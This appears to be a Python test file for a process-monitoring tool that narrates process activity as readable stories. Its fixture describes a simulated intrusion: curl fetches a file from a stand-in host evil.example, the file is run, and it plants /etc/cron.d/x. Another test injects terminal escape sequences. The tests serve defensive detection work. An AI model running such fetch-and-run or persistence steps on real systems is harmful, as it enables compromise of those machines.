"""Stories: what processes did, in order, in words."""

from __future__ import annotations

from tests.views.cast import Cast, guid, intrusion, line_text

from pysmon.schema import catalogue
from pysmon.views.lineage import Lineage
from pysmon.views.story import story

TOLD = """\
2026-11-21
08:15:00.100 init (1, joe) ran bash (100) in /home/joe: bash -l
08:15:00.200 bash (100, joe) ran env (101) in /home/joe: env curl http://evil.example/x
08:15:00.300   env (101) became curl in /home/joe: curl http://evil.example/x
08:15:00.400   curl (101) looked up evil.example and was told 192.0.2.1;
08:15:00.500   curl (101) connected to 192.0.2.1:443 (tcp)
08:15:00.600   curl (101) created /tmp/x
08:15:00.700   curl (101) ended with exit code 0 after 0.5 s
08:15:00.800 bash (100, joe) ran x (102) in /home/joe: /tmp/x --install
08:15:00.900   x (102) gave a file the name /etc/cron.d/x
08:15:01.000   x (102, joe) ran id (103) in /home/joe: id -un
08:15:01.100     id (103) ended with exit code 0 after 0.1 s
08:15:01.200   x (102) ended with exit code 1 after 0.4 s
08:15:01.300 bash (100) ended with exit code 0 after 1.2 s"""


def told(cast: Cast, root: str) -> list[str]:
    process = Lineage(cast.entries).get(root)
    assert process is not None
    generations = list(process.descent())
    depths = {known: depth for depth, p in generations for known in p.guids}
    return [line_text(line) for line in story(cast.entries, depths, {g: p for _, p in generations for g in p.guids})]


def test_a_story_is_told_in_order_and_indented_by_descent() -> None:
    assert "\n".join(told(intrusion(), guid(100))) == TOLD


def test_a_new_user_is_told_where_a_program_begins() -> None:
    cast = Cast()
    cast.run(5, "su joe", User="joe", ParentUser="root")
    assert told(cast, guid(5))[1].endswith("init (1, root) ran su (5, joe) in /home/joe: su joe")


def test_a_process_without_a_known_parent_begins_by_itself() -> None:
    cast = Cast()
    cast.run(5, "sshd", ParentImage="-", CurrentDirectory="-")
    assert told(cast, guid(5))[1] == "08:15:00.100 sshd (5, joe) began: sshd"


def test_days_are_told_as_they_change() -> None:
    cast = Cast()
    cast.run(5, "a")
    cast.wait(86_400)
    cast.end(5)
    lines = told(cast, guid(5))
    assert lines[2:] == ["2026-11-22", "08:15:00.200 a (5) ended with exit code 0 after 1 d"]


def test_an_actor_without_an_image_goes_by_what_its_process_is_known_as() -> None:
    cast = Cast()
    cast.run(5, "a")
    cast.do(catalogue.FileCreate, 5, Image="-", TargetFilename="/x")
    assert told(cast, guid(5))[2] == "08:15:00.200 a (5) created /x"


def test_a_deep_story_stays_on_the_screen() -> None:
    cast = Cast()
    for pid in range(2, 200):
        cast.run(pid, "x", by=pid - 1)
    assert max(map(len, told(cast, guid(2)))) < 100


def test_nothing_in_a_story_can_steer_the_terminal() -> None:
    cast = Cast()
    cast.run(5, "sh\x1b[2J\n", Image="/tmp/\x1b]0;x\x07", CurrentDirectory="/\n")
    cast.create(5, "/tmp/\x9b2J", UtcTime="\x1b")
    assert all(line.isprintable() for line in told(cast, guid(5)))
